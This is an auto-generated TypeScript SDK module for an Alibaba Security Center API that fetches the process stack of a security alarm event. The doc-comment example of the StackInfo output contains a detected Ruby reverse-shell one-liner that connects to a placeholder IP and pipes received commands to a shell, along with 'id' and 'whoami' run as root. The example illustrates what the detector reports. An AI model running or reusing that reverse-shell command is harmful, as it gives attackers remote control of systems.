// Generated from specs/alibaba/sas-2018-12-03 by `npm run generate`. Do not edit.

import { type ErrorGuard, isCloudError, type TypedRoute } from "@cloudseal/core";
import type { ErrorResponse, RequestId } from "../schemas.gen.js";

export interface DescribeAlarmEventStackInfoInput {
  /** @example Variable Trojan */
  EventName: string;
  /** @example zh */
  Lang?: "zh" | "en" | (string & {});
  ResourceDirectoryAccountId?: number | bigint;
  /** @example 192.168.XX.XX */
  SourceIp?: string;
  /** @example 1fbe8d16727f61d1478a674d6fa0**** */
  UniqueInfo: string;
  /** @example 18b7336e-d469-473b-af83-8e5420f9**** */
  Uuid: string;
}

export interface DescribeAlarmEventStackInfoOutput {
  /** Identifies this call; quote it when asking the vendor for help. */
  RequestId: RequestId;
  /**
   * @example [ { "child": [ { "child": [ { "child": [ ], "data": { "cmdline": "id", "proc_path": "/bin/id", "pid":
   * "[3033]" }, "description": { "extend": [ ], "main": { "content": "${pid} ${cmdline}", "content_type": "markdown" }
   * } }, { "child": [ ], "data": { "cmdline": "whoami", "proc_path": "/bin/whoami", "pid": "[3035]" }, "description": {
   * "extend": [ ], "main": { "content": "${pid} ${cmdline}", "content_type": "markdown" } } } ], "data": { "cmdline":
   * "/bin/bash -c \\"id && whoami\\"", "proc_path": "/bin/bash", "pid": "[3022]" }, "description": { "extend": [ ],
   * "main": { "content": "${pid} ${cmdline}", "content_type": "markdown" } } } ], "data": { "src_ip": "0.0.0.0",
   * "cmdline": "ruby -rsocket -e exit if
   * fork;c=TCPSocket.new(\\"0.0.0.0\\",\\"1111\\");while(cmd=c.gets);IO.popen(cmd,\\"r\\"){|io|c.print io.read}end",
   * "file": "ruby", "login_port": "22", "login_type": "password", "proc_path": "/usr/bin/ruby", "dst_port": "1111",
   * "pid": "3011", "user": "root", "dst_ip": "0.0.0.0", "log_time": "2020-01-20 09:00:00" }, "description": { "extend":
   * [ { "content": "${tpl_netstat}", "content_type": "text" } ], "main": { "content": "${pid} ${cmdline}",
   * "content_type": "markdown" } } } ]
   */
  StackInfo?: string;
}

/**
 * The documented error codes of DescribeAlarmEventStackInfo.
 *
 * - `NoPermission` (HTTP 400)
 * - `RdCheckNoPermission` (HTTP 400)
 * - `RdCheckInnerError` (HTTP 500)
 * - `ServerError` (HTTP 500)
 */
export type DescribeAlarmEventStackInfoErrorCode =
  | "NoPermission"
  | "RdCheckNoPermission"
  | "RdCheckInnerError"
  | "ServerError";

/** Whether `error` is a failure of DescribeAlarmEventStackInfo with one of its documented codes. */
export const isDescribeAlarmEventStackInfoError: ErrorGuard<DescribeAlarmEventStackInfoErrorCode> = (error) =>
  isCloudError(error, "DescribeAlarmEventStackInfo", [
    "NoPermission",
    "RdCheckNoPermission",
    "RdCheckInnerError",
    "ServerError",
  ]);

/**
 * Checked, not verified: the vendor's definitions agree and its payload fits (typescript-sdk, go-sdk,
 * openapi-meta, api-docs, api-docs-2024; 2026-08-22).
 *
 * Safe to repeat.
 * @example
 * ```ts
 * const result = await client.describeAlarmEventStackInfo({
 *   EventName: "Variable Trojan",
 *   Lang: "zh",
 *   SourceIp: "192.168.XX.XX",
 *   UniqueInfo: "1fbe8d16727f61d1478a674d6fa0****",
 *   Uuid: "18b7336e-d469-473b-af83-8e5420f9****",
 * });
 * ```
 * @deprecated
 * @throws CloudError
 */
export const describeAlarmEventStackInfo: TypedRoute<
  DescribeAlarmEventStackInfoInput,
  DescribeAlarmEventStackInfoOutput,
  DescribeAlarmEventStackInfoHttp
> = {
  name: "DescribeAlarmEventStackInfo",
  tier: "checked",
  method: "POST",
  path: "/",
  headers: { "x-acs-action": "DescribeAlarmEventStackInfo", "x-acs-version": "2018-12-03" },
  rest: "query",
  idempotent: true,
};

/** DescribeAlarmEventStackInfo as `client.http` calls it. */
export interface DescribeAlarmEventStackInfoHttp {
  "/DescribeAlarmEventStackInfo": {
    post: {
      parameters: {
        query: DescribeAlarmEventStackInfoInput;
        header?: never;
        path?: never;
        cookie?: never;
      };
      requestBody?: never;
      responses: {
        /** @description The operation succeeded. */
        200: {
          content: {
            "application/json": DescribeAlarmEventStackInfoOutput;
          };
        };
        /** @description The call failed; Code says why. */
        default: {
          content: {
            "application/json": ErrorResponse;
          };
        };
      };
    };
  };
}
